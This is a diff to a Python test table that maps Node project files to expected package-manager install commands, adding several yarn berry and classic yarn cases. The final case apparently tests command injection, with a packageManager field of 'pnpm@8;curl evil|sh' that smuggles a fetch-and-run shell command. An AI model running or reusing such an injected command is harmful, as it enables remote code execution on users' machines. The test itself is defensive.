@@ -210,7 +210,19 @@ NODE: dict[str, tuple[dict[str, str], str]] = {
     ),
     "yarn berry": (
         {"package.json": package(packageManager="yarn@4.1.0"), "yarn.lock": "", ".yarnrc.yml": ""},
-        "npx --yes yarn@4.1.0 install --immutable",
+        "npx --yes @yarnpkg/cli-dist@4.1.0 install --immutable",
+    ),
+    "yarn berry of no version": (
+        {"package.json": package(), "yarn.lock": "", ".yarnrc.yml": ""},
+        "npx --yes @yarnpkg/cli-dist@4 install --no-immutable",
+    ),
+    "yarn berry without settings": (
+        {"package.json": package(packageManager="yarn@3.6.4+sha256.ab"), "yarn.lock": ""},
+        "npx --yes @yarnpkg/cli-dist@3.6.4 install --immutable",
+    ),
+    "old yarn that is named": (
+        {"package.json": package(packageManager="yarn@1.22.19"), "yarn.lock": ""},
+        "npx --yes yarn@1.22.19 install --frozen-lockfile --non-interactive",
     ),
     "a manager that is a command": (
         {"package.json": package(packageManager="pnpm@8;curl evil|sh"), "pnpm-lock.yaml": ""},
